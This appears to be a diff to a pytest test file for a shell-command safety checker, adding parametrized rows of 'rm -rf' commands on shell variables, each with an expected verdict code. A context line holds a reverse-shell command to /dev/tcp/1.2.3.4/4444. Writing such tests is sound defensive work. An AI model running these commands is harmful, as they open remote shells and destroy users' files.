@@ -42,7 +42,37 @@ CONTAINER_SHELL_HELD = [
     ('docker exec -i web bash -i 2>&1 >/dev/tcp/1.2.3.4/4444', 'KKKDD'),
 ]
 
-ROWS = CONTAINER_SHELL + CONTAINER_SHELL_HELD
+# --- 2. a variable bash itself always sets is never empty -----------------------------
+SHELL_SET = [
+    ('rm -rf ~/"$RANDOM"', 'KKKDD'),
+    ('rm -rf ~/"$SECONDS"', 'KKKDD'),
+    ('rm -rf ~/"$BASHPID"', 'KKKDD'),
+    ('rm -rf ~/"$UID"', 'KKKDD'),
+    ('rm -rf "$HOME/$HOSTNAME"', 'KKKDD'),
+    ('rm -rf ~/"$PATH"', 'KKKDD'),
+    ('rm -rf ~/.cache/"$HOSTTYPE"', 'KKKDD'),
+    ('rm -rf ~/"$$"', 'KKKDD'),
+]
+SHELL_SET_HELD = [
+    ('rm -rf ~/"$X"', 'DDDDD'),
+    ('rm -rf ~/$IFS', 'DDDDD'),
+    ('rm -rf ~/"$USER"', 'DDDDD'),
+    ('rm -rf "$OUT"/*', 'DDDDD'),
+    ('rm -rf "$STEAMROOT/"*', 'DDDDD'),
+    ('rm -rf "${X}/"', 'DDDDD'),
+    ('rm -rf $X/*', 'DDDDD'),
+    ('rm -rf "$A$B"', 'KKKDD'),
+    ('rm -rf "$BUILD_DIR"', 'KKKDD'),
+    ('rm -rf $VIRTUAL_ENV', 'KKKDD'),
+    ('rm -rf "$CARGO_TARGET_DIR"', 'KKKDD'),
+    ('rm -rf $HOME/.cache/$PKG', 'KKKDD'),
+    ('rm -rf "${TMPDIR:-/tmp}/x"', 'KKADD'),
+    ('rm -rf "${OUT:?}/"*', 'KKKDD'),
+    ('d=build; rm -rf "$d"', 'KAADD'),
+    ('rm -rf "$PWD"/*', 'KAADD'),
+]
+
+ROWS = CONTAINER_SHELL + CONTAINER_SHELL_HELD + SHELL_SET + SHELL_SET_HELD
 
 
 @pytest.mark.parametrize("row", ROWS, ids=_id)
